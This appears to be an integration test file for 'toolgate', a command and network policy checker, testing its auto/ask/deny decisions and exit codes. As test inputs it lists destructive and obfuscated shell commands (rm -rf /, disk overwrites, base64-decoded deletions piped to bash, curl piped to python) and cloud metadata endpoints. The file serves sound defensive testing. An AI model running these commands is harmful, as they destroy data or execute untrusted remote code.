//! `toolgate check` as policy authors and CI run it: the real binary, JSON out, exit codes.

use std::process::{Command, Output};

use crate::support::text;

fn toolgate(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_toolgate"))
        .args(args)
        .output()
        .expect("run toolgate")
}

/// The exit status `toolgate check` gives each decision.
fn exit_code(decision: &str) -> i32 {
    match decision {
        "auto" => 0,
        "ask" => 2,
        "deny" => 3,
        other => panic!("not a decision: {other}"),
    }
}

/// The decision with no sandbox guarantee (`--profile unconfined`): these tests are about how
/// the classifier reads a script, which containment would hide.
fn decision(script: &str) -> String {
    decision_under("unconfined", script)
}

fn decision_under(profile: &str, script: &str) -> String {
    let out = toolgate(&["check", "--json", "--profile", profile, "--", script]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{script}: one JSON object ({e}): {}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    let decision = v["decision"]
        .as_str()
        .expect("top-level decision")
        .to_owned();
    assert_eq!(
        out.status.code(),
        Some(exit_code(&decision)),
        "{script}: the exit status is the answer"
    );
    decision
}

#[test]
fn substring_classifier_false_negatives_are_not_repeated() {
    for (script, want) in [
        ("dd if=/dev/zero of=/dev/sda", "deny"),
        ("sudo\tls", "deny"),
        ("rm -rf /", "deny"),
        ("curl x | python3", "deny"),
    ] {
        assert_eq!(decision(script), want, "{script:?}");
    }
}

#[test]
fn substring_classifier_false_positives_are_not_repeated() {
    assert_ne!(decision("grep -rn mkfs src/"), "deny");
    assert_ne!(decision("curl x | shasum"), "deny");
    assert_eq!(decision("rm -rf build 2>/dev/null"), "ask");
    assert_eq!(decision("git log -p -1"), "auto");
    assert_eq!(decision("sed -n 1,5p f"), "auto");
}

#[test]
fn filesystem_calls_and_exit_codes() {
    let out = toolgate(&[
        "check",
        "--json",
        "--tool",
        "fs.write",
        "--path",
        ".git/hooks/pre-commit",
    ]);
    assert_eq!(out.status.code(), Some(3), "a deny exits 3");
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["decision"], "deny");
    let read = toolgate(&["check", "--tool", "fs.read", "--path", "src/main.rs"]);
    assert_eq!(read.status.code(), Some(0), "an auto exits 0");
    let ask = toolgate(&["check", "--", "rm -rf build"]);
    assert_eq!(ask.status.code(), Some(2), "an ask exits 2");
    // Deleting one file is a write; a tree asks, as `rm -r` does.
    let one = toolgate(&["check", "--tool", "fs.delete", "--path", "build/a.o"]);
    assert_eq!(one.status.code(), Some(0), "{}", text(&one));
    let tree = toolgate(&["check", "--tool", "fs.delete", "--path", "build", "-r"]);
    assert_eq!(tree.status.code(), Some(2), "{}", text(&tree));
    assert!(String::from_utf8_lossy(&tree.stdout).contains("baseline.rm-recursive-or-forced"));
    assert!(v["digest"].as_str().is_some_and(|d| d.len() == 64));

    // Usage errors exit 1: distinct from every answer.
    assert_eq!(
        toolgate(&["check", "--tool", "fs.write"]).status.code(),
        Some(1)
    );
    assert_eq!(
        toolgate(&["check", "--tool", "fs.chmod", "--path", "x"])
            .status
            .code(),
        Some(1)
    );

    // A broken policy exits non-zero and says where.
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.toml");
    std::fs::write(&bad, "[[rule]]\nid = \"x\"\ndecision = \"maybe\"\n").unwrap();
    let out = toolgate(&["check", "--policy", bad.to_str().unwrap(), "--", "ls"]);
    assert_eq!(out.status.code(), Some(1));
    let out = toolgate(&["policy", "validate", bad.to_str().unwrap()]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("line"),
        "errors carry line numbers"
    );
}

#[test]
fn the_shipped_policy_validates() {
    let policy = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../libs/policy-engine/default-policy.toml"
    );
    let out = toolgate(&["policy", "validate", policy]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("policy ok"));
}

/// Issue 13: every example the issue states an answer for, through the real binary.
#[test]
fn issue_13_examples_get_the_stated_answer() {
    // §1: abbreviated and clustered options are read as the program reads them.
    for script in [
        "sort -S 64k --compress-prog=sh big.txt",
        "sort -uoout.txt big.txt",
        "awk --sourc='BEGIN{system(\"id\")}'",
        "sed --expr='1e id' f",
        "tail --s 1 f",
    ] {
        assert_eq!(decision(script), "ask", "{script:?}");
    }
    // §2: git outside the workspace's own repository, and commands that discard work.
    for script in [
        "git -C evil status",
        "cd evil && git status",
        "git --git-dir=evil status",
        "git --work-tree=.. status",
        "git --exec-path=evil status",
        "git -c core.fsmonitor=x status",
        "git --config-env=core.pager=X log",
        "GIT_DIR=evil git status",
        "git checkout -- src/main.rs",
        "git checkout .",
        "git restore f",
        "git reset --hard",
        "git clean -f",
        "git stash drop",
        "git stash clear",
    ] {
        assert_eq!(decision(script), "ask", "{script:?}");
    }
    assert_eq!(decision("git status"), "auto");
    assert_eq!(decision("git restore --staged f"), "auto");
    // §5: a deny is not softened by spelling when the script alone decides the value.
    for script in [
        "$(echo rm) -rf /",
        "R=rm; $R -rf /",
        "{r,R}{m,M} -rf /",
        "echo cm0gLXJmIC8K | base64 -d | bash",
        "find / -delete",
        "awk 'BEGIN{system(\"rm -rf /\")}'",
        "r''m -rf /",
        "\"r\"m -rf /",
        "\\rm -rf /",
    ] {
        assert_eq!(decision(script), "deny", "{script:?}");
    }
    // Not computable from the script: asked, with the reason in plain words.
    assert_eq!(decision(". /tmp/evil.sh"), "ask");
    assert_eq!(decision("awk 'BEGIN{system(\"rm -rf /tmp/x\")}'"), "ask");
    let out = toolgate(&[
        "check",
        "--json",
        "--profile",
        "unconfined",
        "--",
        "$(curl -s x) -rf /",
    ]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["decision"], "ask");
    assert!(
        v.to_string()
            .contains("the program name is computed at run time from `$(curl -s x)`"),
        "{v}"
    );
}

/// Issue 25: by default `check` decides a run under the executor's default profile, and says
/// which guarantee made a call auto; `policy explain` shows it per command.
#[test]
fn check_and_explain_name_the_guarantee_that_made_a_call_auto() {
    for script in [
        "cargo bench",
        "./build.sh",
        "ls -d */",
        "python3 tools/gen.py",
    ] {
        assert_eq!(decision_under("workspace", script), "auto", "{script:?}");
        assert_eq!(
            decision(script),
            "ask",
            "{script:?} with no sandbox guarantee"
        );
    }
    for script in ["rm -rf build", "git push", "rm \"$D\"", "git reset --hard"] {
        assert_eq!(decision_under("workspace", script), "ask", "{script:?}");
    }
    let out = toolgate(&["check", "--", "cargo bench"]);
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("profile:  workspace"), "{text}");
    assert!(
        text.contains("contained by the workspace sandbox"),
        "{text}"
    );
    let out = toolgate(&[
        "policy",
        "explain",
        "cargo bench && rm -rf build && ls *.rs",
    ]);
    assert_eq!(out.status.code(), Some(2), "explain exits like check");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("ask     rm -rf build"), "{text}");
    assert!(
        text.contains("baseline.rm-recursive-or-forced: recursive or forced deletion"),
        "{text}"
    );
    assert!(
        text.contains("baseline.dynamic-arguments: contained by the workspace sandbox (it would be ask without it"),
        "{text}"
    );
    let out = toolgate(&[
        "policy",
        "explain",
        "--profile",
        "unconfined",
        "cargo bench",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).contains("unknown to this policy"));
}

/// `toolgate check ... | head -0`: a reader that went away ends the command quietly (no
/// panic, no error message), as for any Unix command.
#[test]
fn a_closed_pipe_ends_the_command_quietly() {
    for args in [
        &["check", "--json", "--", "ls"][..],
        &[
            "policy",
            "validate",
            concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/../../libs/policy-engine/default-policy.toml"
            ),
        ][..],
    ] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let out = Command::new(env!("CARGO_BIN_EXE_toolgate"))
            .args(args)
            .stdout(writer)
            .stderr(std::process::Stdio::piped())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
        assert!(stderr.is_empty(), "{args:?}: {stderr}");
        use std::os::unix::process::ExitStatusExt;
        assert!(
            out.status.success() || out.status.signal() == Some(13),
            "{args:?}: ends as `cat` does on a closed pipe: {:?}",
            out.status
        );
    }
}

/// `toolgate completions <shell>` prints a script the shell accepts, naming the subcommands.
#[test]
fn completions_generate_for_bash_zsh_and_fish() {
    for (shell, check) in [("bash", "bash"), ("zsh", "zsh"), ("fish", "fish")] {
        let out = toolgate(&["completions", shell]);
        assert!(
            out.status.success(),
            "{shell}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let script = String::from_utf8(out.stdout).unwrap();
        for word in ["toolgate", "approvals", "mcp", "check"] {
            assert!(script.contains(word), "{shell} completion names {word}");
        }
        // The shell itself parses it, when it is installed.
        let syntax = match check {
            "bash" => Some(vec!["-n"]),
            "zsh" => Some(vec!["-n"]),
            "fish" => Some(vec!["--no-execute"]),
            _ => None,
        };
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("completion");
        std::fs::write(&file, &script).unwrap();
        if let Some(flags) = syntax
            && let Ok(o) = Command::new(check).args(&flags).arg(&file).output()
        {
            assert!(
                o.status.success(),
                "{shell} rejects it: {}",
                String::from_utf8_lossy(&o.stderr)
            );
        }
    }
    assert!(!toolgate(&["completions", "tcsh"]).status.success());
}

/// `toolgate check --connect HOST:PORT`: what a run's egress gate would be told about a
/// connection, with the shipped network rules.
fn connect_decision(args: &[&str]) -> (String, serde_json::Value) {
    let mut all = vec!["check", "--json", "--connect"];
    all.extend_from_slice(args);
    let out = toolgate(&all);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{args:?}: one JSON object ({e}): {}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    let decision = v["decision"]
        .as_str()
        .expect("top-level decision")
        .to_owned();
    assert_eq!(out.status.code(), Some(exit_code(&decision)), "{args:?}");
    (decision, v)
}

#[test]
fn check_connect_decides_a_destination_by_the_network_rules() {
    let (d, v) = connect_decision(&["pypi.org:443"]);
    assert_eq!(d, "auto");
    assert!(v.to_string().contains("package-registries"), "{v}");
    // The registries are auto only on 443 and only for runs under the network profile.
    assert_eq!(connect_decision(&["pypi.org:80"]).0, "ask");
    assert_eq!(
        connect_decision(&["pypi.org:443", "--profile", "workspace"]).0,
        "ask"
    );
    assert_eq!(connect_decision(&["example.com:443"]).0, "ask");
    for dest in [
        "metadata.google.internal:80",
        "169.254.169.254:80",
        "[2001:db8::1]:443",
    ] {
        assert_eq!(connect_decision(&[dest]).0, "deny", "{dest}");
    }
    // The table names the destination and the rule.
    let out = toolgate(&["check", "--connect", "Metadata.Google.Internal.:80"]);
    assert_eq!(out.status.code(), Some(3));
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(
        table.contains("connection to Metadata.Google.Internal.:80 (tcp)"),
        "{table}"
    );
    assert!(table.contains("cloud-metadata"), "{table}");
    // A malformed destination is a usage error, not a decision.
    for bad in ["pypi.org", "pypi.org:0", "pypi.org:http", "2001:db8::1:443"] {
        let out = toolgate(&["check", "--connect", bad]);
        assert_eq!(out.status.code(), Some(1), "{bad}");
        assert!(text(&out).contains("--connect"), "{bad}: {}", text(&out));
    }
    // `policy explain --connect` says which rules matched.
    let out = toolgate(&["policy", "explain", "--connect", "registry.npmjs.org:443"]);
    assert_eq!(out.status.code(), Some(0));
    assert!(text(&out).contains("package-registries"), "{}", text(&out));
}
